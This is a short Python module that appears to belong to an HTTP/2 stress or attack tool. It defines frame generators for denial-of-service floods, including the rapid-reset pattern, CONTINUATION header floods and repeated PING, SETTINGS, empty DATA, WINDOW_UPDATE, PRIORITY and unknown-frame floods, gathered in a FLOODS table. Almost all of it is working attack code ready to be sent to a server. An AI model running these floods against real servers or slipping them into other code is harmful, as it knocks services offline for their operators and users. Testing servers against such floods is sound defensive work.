"""Floods of HTTP/2: each is a function of a client that returns what is sent again and again, as bytes or a function for them."""

from hyperframe import frame as frames

from http2_client import data, pseudo, raw


def rapid_resets(client):
    def unit():
        head = client.head(pseudo("/?x-gate=1"))
        return head.serialize() + frames.RstStreamFrame(head.stream_id, 8).serialize()

    return unit


def continuations(client):
    opened = []

    def unit():
        if not opened:
            opened.append(client.head(pseudo(), flags=("END_STREAM",)))
            return opened[0].serialize()
        return frames.ContinuationFrame(opened[0].stream_id, client.encoder.encode([("x-a", "b" * 1000)])).serialize()

    return unit


def empty_data(client):
    stream = client.head(pseudo(method="POST"), flags=("END_HEADERS",))
    client.send(stream)
    return lambda: data(stream.stream_id, b"").serialize() * 10


FLOODS = {
    "rapid resets": rapid_resets,
    "CONTINUATION": continuations,
    "PING": lambda _: lambda: frames.PingFrame(0, b"12345678").serialize() * 10,
    "SETTINGS": lambda _: lambda: frames.SettingsFrame(0).serialize() * 10,
    "empty DATA": empty_data,
    "WINDOW_UPDATE": lambda _: lambda: frames.WindowUpdateFrame(0, 1).serialize() * 10,
    "PRIORITY": lambda _: lambda: frames.PriorityFrame(1, 0, 1).serialize() * 10,
    "unknown frames": lambda _: lambda: raw(0xEE, 0, 0, b"") * 10,
}
